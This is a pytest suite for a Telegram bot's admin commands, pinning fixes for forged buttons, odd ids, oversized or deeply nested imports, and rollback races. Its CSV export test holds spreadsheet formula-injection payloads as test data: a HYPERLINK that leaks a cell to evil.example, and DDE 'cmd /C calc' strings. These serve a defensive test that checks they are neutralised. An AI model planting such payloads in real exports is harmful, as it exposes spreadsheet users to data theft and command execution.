"""Admin commands against crafted updates: the findings of the adversarial review, each pinned
by a test that failed before its fix."""

from __future__ import annotations

import csv
import functools
import html
import io
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiogram.methods import AnswerCallbackQuery, EditMessageText, SendDocument
from aiogram.types import (
    BufferedInputFile,
    Chat,
    Document,
    InlineKeyboardButton,
    InlineKeyboardMarkup,
    MessageEntity,
    User,
)
from sqlalchemy import func, select

from bot.db.models import ScoringModelVersion
from bot.emulator.entities import parse_html
from tests.dispatcher.test_admin import ADMIN, STRANGER, audit_actions, lead_id
from tests.support.harness import HOT_RU_ANSWERS, Harness


@pytest.fixture
async def harness(tmp_path: Path) -> AsyncIterator[Harness]:
    h = await Harness.create(tmp_path, admin_ids="777,778")
    yield h
    await h.close()


def last(h: Harness, chat_id: int = ADMIN.id) -> str:
    return h.session.texts(chat_id)[-1]


_LEN = -1


async def send_file(h: Harness, name: str, data: bytes, *, file_size: int | None = _LEN) -> None:
    """A document captioned /import_model; `file_size` is what the update claims."""
    file_id = f"f{len(h.session.files)}"
    h.session.files[file_id] = data
    size = len(data) if file_size == _LEN else file_size
    document = Document(file_id=file_id, file_unique_id=file_id, file_name=name, file_size=size)
    entities = [MessageEntity(type="bot_command", offset=0, length=len("/import_model"))]
    message = h._message(
        ADMIN, document=document, caption="/import_model", caption_entities=entities
    )
    await h.feed(h.make_update(message=message))


# --- /diff ------------------------------------------------------------------------------------


async def test_diff_of_two_versions_lists_the_changes(harness: Harness) -> None:
    h = harness
    await h.text(ADMIN, "/set tiers.hot 80")
    for command in ("/diff 1 2", "/diff v1 v2", "/diff V1 v2"):
        await h.text(ADMIN, command)
        text = last(h)
        assert "v1 → v2" in text and "tiers.hot: 75.0 -&gt; 80.0" in text, command


async def test_diff_of_a_version_with_itself_says_no_differences(harness: Harness) -> None:
    await harness.text(ADMIN, "/diff 1 1")
    assert "Версии совпадают" in last(harness)


async def test_diff_with_an_unknown_version_says_so(harness: Harness) -> None:
    for command in ("/diff 9 99", "/diff 1 99", "/diff 1 x", "/diff 1"):
        await harness.text(ADMIN, command)
        text = last(harness)
        assert "Нет такой версии" in text or "Формат" in text, command
    assert "99" in harness.session.texts(ADMIN.id)[-3]


# --- ids ----------------------------------------------------------------------------------------

HUGE = "9" * 20  # above 2**63: SQLite cannot bind it
SUPERSCRIPT = "²"  # str.isdigit() says yes, int() says no


def button(data: str) -> InlineKeyboardMarkup:
    return InlineKeyboardMarkup(
        inline_keyboard=[[InlineKeyboardButton(text="forged", callback_data=data)]]
    )


def alerts(h: Harness) -> list[str]:
    return [r.text or "" for r in h.session.sent(AnswerCallbackQuery)]


@pytest.mark.parametrize(
    "command",
    [
        f"/lead {SUPERSCRIPT}",
        f"/lead #{SUPERSCRIPT}",
        "/lead ٣",  # an Arabic-Indic digit: int() would take it
        f"/lead #{HUGE}",
        f"/rescore {SUPERSCRIPT}",
        f"/stage {SUPERSCRIPT} lost",
        f"/stage #{HUGE} lost",
        f"/forget_lead {SUPERSCRIPT}",
        f"/forget_lead {HUGE}",
        f"/forget_lead #{HUGE}",
        f"/rollback {SUPERSCRIPT}",
        f"/rollback {HUGE}",
        f"/rollback v{HUGE}",
        f"/diff {SUPERSCRIPT} 1",
        f"/diff 1 v{HUGE}",
        f"/audit {SUPERSCRIPT}",
        f"/audit {HUGE}",
    ],
)
async def test_odd_and_huge_ids_get_an_answer_not_an_exception(
    harness: Harness, command: str
) -> None:
    await harness.text(ADMIN, command)
    text = last(harness)
    assert any(
        hint in text for hint in ("не найден", "Формат", "Нет такой версии", "Последние", "номер")
    ), text


@pytest.mark.parametrize(
    "data",
    [
        f"adm:rescore:{HUGE}",
        f"adm:apply:{HUGE}",
        f"adm:discard:{HUGE}",
        f"adm:handoff:{HUGE}",
        f"adm:rescore:{SUPERSCRIPT}",
        "adm:rescore:-1",
        "adm:nonsense:1",
        "adm:",
    ],
)
async def test_forged_admin_buttons_get_a_polite_refusal(harness: Harness, data: str) -> None:
    await harness.press(ADMIN, "forged", button(data))
    assert alerts(harness) == ["Кнопка устарела или повреждена"]
    harness.session.clear()
    await harness.press(STRANGER, "forged", button(data))
    assert alerts(harness) == ["Команда доступна только администраторам"]


async def test_a_forged_sales_button_with_a_huge_lead_id_is_ignored(tmp_path: Path) -> None:
    sales_chat = Chat(id=-1001234567890, type="supergroup", title="Продажи")
    h = await Harness.create(tmp_path, sales_chat_id=sales_chat.id)
    try:
        rep = Harness.user(501)
        for data in (f"s:take:{HUGE}", f"s:won:{HUGE}:", f"s:menu:{HUGE}:lost"):
            await h.press_in_chat(rep, sales_chat, 1, button(data), "forged")
        assert h.session.sent(EditMessageText) == []
    finally:
        await h.close()


async def test_set_with_a_superscript_list_index_is_an_unknown_key(harness: Harness) -> None:
    await harness.text(ADMIN, f"/set fit.rules.{SUPERSCRIPT}.points 2")
    assert "Неизвестный ключ" in last(harness)
    await harness.text(ADMIN, f"/set fit.rules.{HUGE}.points 2")
    assert "Неизвестный ключ" in last(harness)


# --- /export_leads: CSV formula injection -----------------------------------------------------


async def exported_rows(h: Harness) -> list[dict[str, str]]:
    await h.text(ADMIN, "/export_leads all")
    document = h.session.sent(SendDocument)[-1].document
    assert isinstance(document, BufferedInputFile)
    return list(csv.DictReader(io.StringIO(document.data.decode("utf-8-sig"), newline="")))


async def test_export_neutralises_formulas_from_prospects_but_keeps_phones(
    harness: Harness,
) -> None:
    h = harness
    crafted = User(
        id=31,
        is_bot=False,
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        last_name="+1+cmd|' /C calc'!A0",
        username="@SUM(1+1)",
        language_code="ru",
    )
    answers = list(HOT_RU_ANSWERS)
    answers[4] = "-2+3+cmd|' /C calc'!A0"  # company
    answers[5] = "\t=1+1 директор"  # position
    await h.text(crafted, "/start -A1")
    for answer in answers:
        await h.text(crafted, answer)
    plain = Harness.user(32)
    await h.text(plain, "/start")
    for answer in HOT_RU_ANSWERS:
        await h.text(plain, answer)
    rows = {row["id"]: row for row in await exported_rows(h)}
    bad = rows[str(await lead_id(h, 31))]
    for column in ("first_name", "last_name", "username", "company", "position", "source"):
        assert bad[column].startswith("'"), (column, bad[column])
    assert bad["first_name"] == "'" + crafted.first_name
    assert bad["company"] == "'-2+3+cmd|' /C calc'!A0" and bad["source"] == "'-A1"
    # A validated phone number is exempt: it stays "+7..." so sales can dial it.
    assert bad["phone"] == "+79991234567"
    good = rows[str(await lead_id(h, 32))]
    assert good["company"] == "ООО Ромашка" and good["first_name"] == "Иван"
    assert good["phone"] == "+79991234567" and good["email"] == "anna@romashka.ru"


def test_csv_cells_starting_like_a_formula_get_an_apostrophe() -> None:
    from admin.leads import csv_phone, csv_text

    for raw in ("=1", "+1", "-1", "@a", "\tx", "\rx", "=", "+"):
        assert csv_text(raw) == "'" + raw
    for raw in ("", "Анна", "a=1", " =1", "'=1"):
        assert csv_text(raw) == raw
    assert csv_phone("+79991234567") == "+79991234567"
    assert csv_phone("+7999=1") == "'+7999=1" and csv_phone("-79991234567") == "'-79991234567"
    assert csv_phone("+1234567890123456") == "'+1234567890123456"  # longer than E.164


# --- long lines and HTML ------------------------------------------------------------------------


def test_a_long_line_is_cut_outside_entities_and_tags() -> None:
    from admin.common import TELEGRAM_LIMIT, chunks

    for unit in ("&", "<", "&<", "a&", "ab<", "&quot;"):
        line = "<b>Заголовок</b> " + html.escape(unit * 5000)
        for part in chunks(f"начало\n{line}\nконец"):
            assert len(part) <= TELEGRAM_LIMIT
            parse_html(part)  # Telegram's parser: raises on a cut entity or tag
    (part,) = chunks("<b>x</b> " + html.escape("&" * 5000), limit=100)
    text, _ = parse_html(part)
    assert text.startswith("x &&&") and text.endswith("&…")


async def test_dryrun_with_a_huge_reason_full_of_html_sends_valid_messages(
    harness: Harness,
) -> None:
    h = harness
    await h.text(ADMIN, "/set fit.rules.phone.reason " + "R&D <b> " * 1500)
    h.session.clear()
    await h.text(ADMIN, "/dryrun")
    texts = h.session.texts(ADMIN.id)
    assert texts and "Пробный пересчёт" in texts[0]
    for text in texts:
        assert len(text) <= 4096
        parse_html(text)
    assert "R&amp;D &lt;b&gt;" in "".join(texts)


# --- model limits and /import_model -------------------------------------------------------------


async def test_set_refuses_a_huge_finite_weight(harness: Harness) -> None:
    await harness.text(ADMIN, "/set fit.rules.phone.points 1e308")
    text = last(harness)
    assert "Значение не принято" in text and "x ≤ 100" in text and "x ≥ -100" in text
    await harness.text(ADMIN, "/set decay_groups.behaviour.half_life_days 1e-300")
    assert "Значение не принято" in last(harness)
    async with harness.sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(ScoringModelVersion)) == 1


async def test_import_refuses_huge_weights_and_deep_or_big_files(harness: Harness) -> None:
    h = harness
    await h.text(ADMIN, "/export_model")
    body = json.loads(h.session.sent(SendDocument)[-1].document.data)
    for rule in body["fit"]["rules"]:
        rule["points"] = 1e308
    await send_file(h, "huge.json", json.dumps(body).encode())
    assert "Модель не принята" in last(h) and "fit.rules.phone.points" in last(h)

    deep_json = b'{"fit": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    deep_toml = b"fit = " + b"[" * 100_000 + b"]" * 100_000 + b"\n"
    nested = json.dumps(functools.reduce(lambda acc, _: {"x": acc}, range(500), {})).encode()
    for name, data in (("deep.json", deep_json), ("deep.toml", deep_toml), ("n.json", nested)):
        await send_file(h, name, data)
        assert "Модель не принята" in last(h) and "nested" in last(h), name

    big = json.dumps({**body, "comment": "x" * 300_000}).encode()
    await send_file(h, "big.json", big, file_size=1000)  # the update understates the size
    assert "слишком большой" in last(h)
    await send_file(h, "big.json", big, file_size=None)
    assert "слишком большой" in last(h)
    async with h.sessionmaker() as session:
        assert await session.scalar(select(func.count()).select_from(ScoringModelVersion)) == 1


# --- apply and rollback pin what was dry-run ----------------------------------------------------

ADMIN2 = Harness.user(778, "ru", "Второй админ")


async def versions(h: Harness) -> dict[int, str]:
    async with h.sessionmaker() as session:
        rows = await session.execute(select(ScoringModelVersion.id, ScoringModelVersion.status))
        return {version: status for version, status in rows}


async def body(h: Harness, version: int) -> dict[str, Any]:
    async with h.sessionmaker() as session:
        row = await session.get(ScoringModelVersion, version)
        assert row is not None
        return row.body


async def test_apply_refuses_a_draft_changed_since_its_dry_run(harness: Harness) -> None:
    h = harness
    await h.text(ADMIN, "/set tiers.hot 80")
    first_rev = re.search(r"ревизия (\w+)", last(h))
    assert first_rev is not None
    await h.text(ADMIN, "/dryrun")
    assert first_rev[1] in last(h)
    dryrun = h.last_keyboard(ADMIN.id)
    assert dryrun is not None
    data = [b.callback_data or "" for row in dryrun.inline_keyboard for b in row]
    assert all(first_rev[1] in d and len(d.encode()) < 64 for d in data)

    # Another admin edits the draft in the meantime: the edit applies, with a warning.
    await h.text(ADMIN2, "/set tiers.warm 30")
    warning = last(h, ADMIN2.id)
    assert "tiers.warm" in warning and f"{ADMIN.id}" in warning and "ревизия" in warning
    for label in ("Применить", "Отклонить"):
        h.session.clear()
        await h.press(ADMIN, label, dryrun)
        assert alerts(h) == [
            "Черновик изменился после этого пробного пересчёта: запустите /dryrun снова"
        ]
    assert await versions(h) == {1: "active", 2: "draft"}

    # The same for an import after the dry-run.
    await h.text(ADMIN, "/dryrun")
    second = h.last_keyboard(ADMIN.id)
    imported = await body(h, 2)
    imported["tiers"]["hot"] = 90
    await send_file(h, "model.json", json.dumps(imported).encode())
    h.session.clear()
    await h.press(ADMIN, "Применить", second)
    assert "изменился" in alerts(h)[0]
    assert await versions(h) == {1: "active", 2: "draft"}

    # A fresh dry-run applies what it showed.
    await h.text(ADMIN, "/dryrun")
    await h.press(ADMIN, "Применить")
    assert await versions(h) == {1: "archived", 2: "active"}
    assert (await body(h, 2))["tiers"] == {"hot": 90.0, "warm": 30.0, "disqualify_below": -4.0}


async def test_set_by_the_same_admin_does_not_warn(harness: Harness) -> None:
    await harness.text(ADMIN, "/set tiers.hot 80")
    await harness.text(ADMIN, "/set tiers.warm 30")
    assert "⚠️" not in last(harness)


async def test_rollback_shows_a_dry_run_and_waits_for_confirmation(harness: Harness) -> None:
    h = harness
    await h.text(ADMIN, "/set tiers.hot 80")
    await h.text(ADMIN, "/dryrun")
    await h.press(ADMIN, "Применить")
    assert await versions(h) == {1: "archived", 2: "active"}

    h.session.clear()
    await h.text(ADMIN, "/rollback 1")
    text = "\n".join(h.session.texts(ADMIN.id))
    assert "Откат к v1" in text and "Сменят тир" in text and "tiers.hot: 80.0 -&gt; 75.0" in text
    markup = h.last_keyboard(ADMIN.id)
    assert markup is not None
    assert all(
        len((b.callback_data or "").encode()) < 64 for row in markup.inline_keyboard for b in row
    )
    assert await versions(h) == {1: "archived", 2: "active"}  # nothing yet

    await h.press(ADMIN, "Отмена", markup)
    assert await versions(h) == {1: "archived", 2: "active"}
    await h.press(ADMIN, "Откатить", markup)
    assert "v3" in last(h)
    assert await versions(h) == {1: "archived", 2: "archived", 3: "active"}
    assert (await body(h, 3))["tiers"]["hot"] == 75.0
    # A second tap on the same button does not make a fourth version.
    h.session.clear()
    await h.press(ADMIN, "Откатить", markup)
    assert "уже" in alerts(h)[0]
    assert len(await versions(h)) == 3

    await h.text(ADMIN, "/rollback 3")
    assert "уже" in last(h) and h.last_keyboard(ADMIN.id) is None  # nothing to confirm
    await h.text(ADMIN, "/rollback 99")
    assert "версии 99 нет" in last(h)
    assert await audit_actions(h) == ["set", "apply", "rollback"]


async def test_rollback_to_a_draft_pins_the_draft_it_showed(harness: Harness) -> None:
    h = harness
    await h.text(ADMIN, "/set tiers.hot 80")
    await h.text(ADMIN, "/rollback 2")
    markup = h.last_keyboard(ADMIN.id)
    await h.text(ADMIN2, "/set tiers.hot 85")
    h.session.clear()
    await h.press(ADMIN, "Откатить", markup)
    assert "изменил" in alerts(h)[0] and "/rollback 2" in alerts(h)[0]
    assert await versions(h) == {1: "active", 2: "draft"}


async def test_the_rescore_button_of_a_lead_card_still_works(harness: Harness) -> None:
    h = harness
    await h.qualify(Harness.user(41))
    first = await lead_id(h, 41)
    await h.text(ADMIN, f"/lead {first}")
    card = h.last_keyboard(ADMIN.id)
    h.session.clear()
    await h.press(ADMIN, "Пересчитать", card)
    assert alerts(h)[0].startswith(f"Лид #{first}: ")
